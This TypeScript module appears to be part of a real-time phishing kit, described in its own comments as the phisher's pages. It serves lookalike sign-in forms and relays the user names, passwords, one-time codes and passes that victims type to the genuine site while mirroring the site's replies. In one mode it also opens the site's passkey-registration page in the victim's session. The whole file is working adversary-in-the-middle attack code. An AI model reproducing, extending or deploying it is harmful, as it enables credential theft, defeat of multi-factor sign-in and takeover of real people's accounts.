// The phisher's own pages, which look like the site's as far as they go; an operator enters at the site what is typed here, while the person
// waits, and shows what the site said to it.
import { raw } from 'hono/html';
import type { AppContext } from '../../../web-server/app-environment.ts';
import { assetRoutes } from '../../../web-server/asset-routes.ts';
import type { SecretKind } from '../lure.ts';
import { harvestPages, type HarvestPage } from '../pages/harvest-pages.ts';
import { refusalPage } from '../pages/refusal-page.ts';
import type { LuredRequest } from '../server/lured-request.ts';
import type { SaidBySite } from '../server/site-visit.ts';

/** The forms: which fields the operator copies, at the same path of the site. */
const forms: Readonly<Record<string, readonly SecretKind[]>> = {
  '/sign-in/user-name': ['user-name'],
  '/sign-in/password': ['password'],
  '/sign-in/code': ['code'],
  '/sign-in/code/resend': [],
  '/sign-in/pass': ['user-name', 'pass'],
};
const opened: Readonly<Record<string, HarvestPage>> = { '/sign-in': 'sign-in', '/sign-in/other-ways': 'other-ways' };
/** Page of the site. */
const registration = '/security-info/passkeys/new';
const assets = assetRoutes([]);
/** Nobody was to come to it: the person is told that nothing works now. */
const notThere: ReadPage = { page: 'error', code: 'service-unavailable', status: 502 };

export async function harvest({ context, lure, method, pathname, body }: LuredRequest): Promise<Response> {
  const page = opened[pathname];
  if (method === 'GET') {
    if (page === 'sign-in' && lure.works === 'harvest-to-register') await askToRegister(lure, context);
    if (page !== undefined) return show(context, { page });
    const asset = await assets.request(pathname);
    return asset.status === 404 ? show(context, notThere) : asset;
  }
  const fields = forms[pathname];
  if (fields === undefined) return context.html(refusalPage('not-found'), 404);
  const typed = new URLSearchParams(body);
  const said = await lure.visit.sendAndFollow({
    method: 'POST',
    path: pathname,
    headers: { ...context.req.header(), 'content-type': 'application/x-www-form-urlencoded', referer: undefined },
    body: new URLSearchParams(Object.fromEntries(fields.map((name) => [name, typed.get(name) ?? '']))).toString(),
    signal: context.req.raw.signal,
  });
  const timing = said.headers['server-timing'];
  // The waiting is the person's too.
  if (typeof timing === 'string') context.header('server-timing', timing);
  return show(context, readPage(said));
}

/** Whoever is not signed in signs in next, and the site remembers what for: other policies may bear on it. */
async function askToRegister({ visit }: LuredRequest['lure'], context: AppContext): Promise<void> {
  await visit.send({
    method: 'GET',
    path: registration,
    headers: context.req.header(),
    signal: context.req.raw.signal,
  });
}

interface ReadPage {
  readonly page: HarvestPage;
  readonly code?: string | undefined;
  /** As the site's page has it. */
  readonly sentence?: string | undefined;
  /** The code was sent, and can be sent again. */
  readonly canResend?: boolean;
  readonly status?: 200 | 502;
}

/** What the operator sees at the site. Of a page that there is no copy of, the person is told that nothing works now. */
function readPage({ status, body }: SaidBySite): ReadPage {
  const page = /<main[^>]*\sdata-page="([^"]*)"/.exec(body)?.[1] ?? '';
  const [, code, sentence] = /<p id="error"[^>]*\sdata-code="([^"]*)"[^>]*>([^<]*)<\/p>/.exec(body) ?? [];
  if (status >= 500 || !isHarvestPage(page)) return notThere;
  return { page, code, sentence, canResend: body.includes('id="resend-code"') };
}

const isHarvestPage = (name: string): name is HarvestPage => Object.hasOwn(harvestPages, name);

function show(context: AppContext, { page, code, sentence = '', canResend = false, status = 200 }: ReadPage) {
  // Text of a page, without a tag in it: it was escaped there.
  const error = code === undefined ? undefined : { code, sentence: raw(sentence) };
  context.header('cache-control', 'no-store');
  return context.html(harvestPages[page]({ error, canResend }), status);
}
